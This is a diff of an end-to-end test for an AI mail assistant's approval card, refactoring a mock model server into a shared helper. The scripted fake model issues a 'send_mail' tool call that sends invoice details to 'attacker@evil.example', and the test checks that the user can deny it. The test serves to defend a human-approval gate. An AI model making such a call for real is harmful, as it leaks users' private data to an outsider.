@@ -6,8 +6,6 @@
 // marked, nothing queued); denying the send answers the round; only the mark runs, and the model gets each
 // result under an id of its own.
 import { mkdirSync } from 'node:fs';
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import type { Browser, Locator, Page } from 'playwright-core';
 import { afterAll, beforeAll, expect, test } from 'vitest';
@@ -15,6 +13,7 @@ import { createApp, projectRoot } from '../../electron/app.ts';
 import type { Served } from '../../electron/web/server.ts';
 import { call, importDemo } from '../support/bridge.ts';
 import { openApp } from '../support/browser.ts';
+import { serveScript, toolCallsBody, wordsBody } from '../support/chat-script.ts';
 import { tempDir } from '../support/temp.ts';
 
 const shots = join(projectRoot, 'test-results', 'screenshots');
@@ -25,38 +24,25 @@ const attacker = 'attacker@evil.example';
 type Message = { role: string; content?: unknown; tool_call_id?: string; tool_calls?: { id: string }[] };
 type Body = { messages: Message[] };
 
-const chunk = (delta: object, finish: string | null = null) =>
-  `data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
-const done = 'data: [DONE]\n\n';
-
-const bodies: Body[] = [];
 let invoiceId = 0;
 
 // First request: the two calls, both `call_same`. Second (their results came back): a plain answer.
 function answer(body: Body): string {
   if (body.messages.some((m) => m.role === 'tool')) {
-    return chunk({ role: 'assistant', content: 'Marked it read.' }) + chunk({}, 'stop') + done;
+    return wordsBody('Marked it read.');
   }
-  const calls = [
-    { name: 'mark_read', args: { ids: [invoiceId] } },
-    { name: 'send_mail', args: { to: [attacker], subject: 'Invoice', body: 'Invoice 1042: 40,000 EUR' } },
-  ];
-  const parts = calls.map((c, index) => ({
-    index,
-    id: 'call_same',
-    type: 'function',
-    function: { name: c.name, arguments: JSON.stringify(c.args) },
-  }));
-  return chunk({ role: 'assistant', tool_calls: parts }) + chunk({}, 'tool_calls') + done;
+  return toolCallsBody([
+    { id: 'call_same', name: 'mark_read', args: { ids: [invoiceId] } },
+    {
+      id: 'call_same',
+      name: 'send_mail',
+      args: { to: [attacker], subject: 'Invoice', body: 'Invoice 1042: 40,000 EUR' },
+    },
+  ]);
 }
 
-const modelServer: Server = createServer(async (req, res) => {
-  let raw = '';
-  for await (const piece of req) raw += piece;
-  const body = JSON.parse(raw) as Body;
-  bodies.push(body);
-  res.writeHead(200, { 'content-type': 'text/event-stream' }).end(answer(body));
-});
+const model = await serveScript<Body>(answer);
+const { bodies } = model;
 
 const app = createApp({ dataDir: tempDir(), mode: 'browser' });
 let served: Served;
@@ -65,12 +51,10 @@ let page: Page;
 const foreign: string[] = [];
 
 beforeAll(async () => {
-  await new Promise<void>((resolve) => modelServer.listen(0, '127.0.0.1', resolve));
-  const base = `http://127.0.0.1:${(modelServer.address() as AddressInfo).port}/v1`;
   await importDemo(app);
   const hits = await call(app, 'mail:search', { query: 'subject:invoice 1042', limit: 5 });
   invoiceId = hits[0]?.id ?? 0;
-  await call(app, 'service:add', { name: 'local', kind: 'openai', baseUrl: base });
+  await call(app, 'service:add', { name: 'local', kind: 'openai', baseUrl: model.base });
   ({ served, browser, page } = await openApp(app, { foreign, viewport: { width: 1280, height: 1400 } }));
 }, 120_000);
 
@@ -78,8 +62,7 @@ afterAll(async () => {
   await browser?.close();
   await served?.close();
   await app.close();
-  modelServer.closeAllConnections();
-  await new Promise((resolve) => modelServer.close(resolve));
+  await model.close();
 });
 
 const card = (): Locator => page.getByTestId('approval-card');
